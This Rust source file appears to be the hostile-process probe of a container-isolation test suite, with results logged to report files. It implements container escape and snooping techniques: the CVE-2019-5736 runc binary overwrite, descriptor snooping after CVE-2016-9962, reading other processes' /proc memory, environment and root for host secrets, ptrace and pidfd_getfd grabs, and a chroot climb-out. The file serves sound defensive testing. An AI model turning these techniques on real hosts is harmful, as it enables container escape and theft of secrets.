//! What a hostile process does inside a container, until `/tmp/stop` is there:
//! it looks at every process that comes by and is not of the container's own
//! programs. What it achieved goes into a file, one line a deed.

use std::collections::BTreeSet;
use std::fs::{self, File};
use std::io::ErrorKind::PermissionDenied as Denied;
use std::io::Write;
use std::os::fd::AsRawFd;
use std::path::Path;

/// Programs of the root file system: whose they are is no secret.
const OWN: [&str; 3] = ["/probe", "/bin/busybox", "/trampoline"];

fn stopped() -> bool {
    Path::new("/tmp/stop").exists()
}

/// The other processes as they are now.
fn others() -> impl Iterator<Item = String> {
    let own = std::process::id().to_string();
    let names = fs::read_dir("/proc").into_iter().flatten().flatten();
    let names = names.map(|entry| entry.file_name().to_string_lossy().into_owned());
    names.filter(move |name| *name != own && name.bytes().all(|byte| byte.is_ascii_digit()))
}

fn is_own(link: &Path) -> bool {
    OWN.iter().any(|own| link == Path::new(own))
}

/// CVE-2019-5736: holds the program of whoever enters, and writes into it once
/// nobody executes it any more.
pub fn overwrite(report: &str) {
    let mut report = File::create(report).expect("create the report");
    let mut held: Vec<File> = Vec::new();
    let mut seen = BTreeSet::new();
    let (mut tries, mut last) = (0, false);
    while !last {
        last = stopped();
        for pid in others() {
            let exe = format!("/proc/{pid}/exe");
            let Ok(link) = fs::read_link(&exe) else { continue };
            if is_own(&link) || seen.contains(&pid) {
                continue;
            }
            if let Ok(file) = File::open(&exe) {
                seen.insert(pid);
                held.push(file);
            }
        }
        held.truncate(40);
        for file in &held {
            tries += 1;
            let path = format!("/proc/self/fd/{}", file.as_raw_fd());
            if let Ok(mut file) = File::options().write(true).open(path) {
                let _ = file.write_all(b"#!/owned\n");
                writeln!(report, "written").expect("report");
            }
        }
    }
    writeln!(report, "seen {} tries {tries}", seen.len()).expect("report");
}

/// CVE-2016-9962: looks at the descriptors of whoever enters; a payload has the
/// standard three. How many it has seen stands in `<report>.seen` all the time.
pub fn snoop(report: &str) {
    let count = format!("{report}.seen");
    let mut report = File::create(report).expect("create the report");
    let mut seen = BTreeSet::new();
    while !stopped() {
        for pid in others() {
            for entry in fs::read_dir(format!("/proc/{pid}/fd")).into_iter().flatten().flatten() {
                let number = entry.file_name().to_string_lossy().into_owned();
                let more = number.parse::<u32>().is_ok_and(|number| number > 2);
                if more && let Ok(link) = fs::read_link(entry.path()) {
                    writeln!(report, "descriptor {number} {}", link.display()).expect("report");
                }
            }
            match fs::read_link(format!("/proc/{pid}/exe")) {
                Ok(link) if !is_own(&link) => {
                    writeln!(report, "program {}", link.display()).expect("report");
                }
                _ => {}
            }
            if seen.insert(pid) {
                fs::write(&count, seen.len().to_string()).expect("report");
            }
        }
    }
    writeln!(report, "seen {}", seen.len()).expect("report");
}

/// What of the host's a process can see of others, with every right there is: `canary` is a
/// directory of the host's, `marks` are words that are on the host's side only.
pub fn watch(report: &str, canary: &str, marks: &[String]) {
    let count = format!("{report}.seen");
    let mut report = File::create(report).expect("create the report");
    let mut seen = BTreeSet::new();
    while !stopped() {
        for pid in others() {
            // Whose program it may not see is not the payload.
            let exe = fs::read_link(format!("/proc/{pid}/exe"));
            let stranger = exe.map_or_else(|error| error.kind() == Denied, |exe| !is_own(&exe));
            for found in host_things(&pid, canary, marks) {
                writeln!(report, "{found}").expect("report");
            }
            if stranger && seen.insert(pid) {
                fs::write(&count, seen.len().to_string()).expect("report");
            }
        }
    }
    writeln!(report, "seen {}", seen.len()).expect("report");
}

/// The capabilities that strangers have or may come to have: all of them together, as a mask.
pub fn rights(report: &str) {
    let count = format!("{report}.seen");
    fs::write(report, "").expect("create the report");
    let (mut seen, mut all) = (BTreeSet::new(), 0);
    while !stopped() {
        for pid in others() {
            let exe = fs::read_link(format!("/proc/{pid}/exe"));
            let status = fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
            if exe.is_err() || exe.is_ok_and(|exe| is_own(&exe)) {
                continue;
            }
            let sets = status.lines().filter_map(|line| {
                let sets = ["CapPrm:\t", "CapInh:\t", "CapBnd:\t"];
                sets.iter().find_map(|set| line.strip_prefix(set))
            });
            all |= sets.fold(0, |all, set| all | u64::from_str_radix(set, 16).expect("a mask"));
            if seen.insert(pid) {
                fs::write(&count, seen.len().to_string()).expect("report");
            }
        }
    }
    fs::write(report, format!("{all:x}\n")).expect("report");
}

fn host_things(pid: &str, canary: &str, marks: &[String]) -> Vec<String> {
    let mut found = Vec::new();
    for way in [format!("root{canary}"), "cwd".to_owned()] {
        if let Ok(text) = fs::read_to_string(format!("/proc/{pid}/{way}/secret")) {
            found.push(format!("{way}: {text}"));
        }
    }
    for file in ["cmdline", "environ"] {
        let text = fs::read(format!("/proc/{pid}/{file}")).unwrap_or_default();
        let text = String::from_utf8_lossy(&text).replace('\0', " ");
        // What is the payload's own is no secret inside.
        if marks.iter().any(|mark| text.contains(mark.as_str())) {
            found.push(format!("{file}: {text}"));
        }
    }
    for entry in fs::read_dir(format!("/proc/{pid}/fd")).into_iter().flatten().flatten() {
        let Ok(target) = fs::read_link(entry.path()) else { continue };
        let outside =
            entry.path().join("../secret").exists() || entry.path().join("secret").exists();
        if outside || target.to_string_lossy().contains("cgroup") {
            found.push(format!("descriptor {}", target.display()));
        }
    }
    found
}

/// Ends every process that comes, as soon as it is there.
pub fn kill_all(report: &str) {
    let before: BTreeSet<String> = others().collect();
    File::create(report).expect("create the report");
    let mut seen = BTreeSet::new();
    while !stopped() {
        for pid in others().filter(|pid| !before.contains(pid)) {
            crate::sys::kill(pid.parse().expect("a number"), 9);
            seen.insert(pid);
        }
    }
    fs::write(report, format!("seen {}\n", seen.len())).expect("report");
}

/// A friendly one for once: the first process of a pid namespace, for others to join, which reaps.
pub fn reap() -> ! {
    loop {
        while crate::sys::wait_any().is_some() {}
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
}

/// Tries each way to what another process has: its memory, its program, its descriptors.
/// Prints those that it got, and then that this was all.
pub fn take(pid: &str) {
    use rustix::process::{Pid, PidfdFlags, PidfdGetfdFlags, pidfd_getfd, pidfd_open};
    let number: i32 = pid.parse().expect("a pid");
    for file in ["mem", "environ", "exe", "maps", "root/etc/passwd", "cwd"] {
        if File::open(format!("/proc/{pid}/{file}")).is_ok_and(|mut file| {
            std::io::Read::read(&mut file, &mut [0; 1]).is_ok() || file.metadata().is_ok()
        }) {
            println!("got {file}");
        }
    }
    let process = pidfd_open(Pid::from_raw(number).expect("a pid"), PidfdFlags::empty());
    let process = process.expect("pidfd_open");
    for fd in 0..64 {
        let link = format!("/proc/{pid}/fd/{fd}");
        if fs::read_link(&link).is_ok() || File::open(&link).is_ok() {
            println!("got fd/{fd}");
        }
        if pidfd_getfd(&process, fd, PidfdGetfdFlags::empty()).is_ok() {
            println!("got descriptor {fd}");
        }
    }
    let first = nix::unistd::Pid::from_raw(number);
    if nix::sys::ptrace::seize(first, nix::sys::ptrace::Options::empty()).is_ok() {
        println!("got traced");
    }
    println!("that was all");
}

/// The old way out of a chroot: a root below the working directory, and up from there. Prints
/// what is at the top.
pub fn climb(below: &str) {
    std::os::unix::fs::chroot(below).expect("chroot");
    for _ in 0..100 {
        std::env::set_current_dir("..").expect("chdir");
    }
    let names = fs::read_dir(".").expect("read").flatten().map(|entry| entry.file_name());
    names.for_each(|name| println!("{}", name.display()));
}
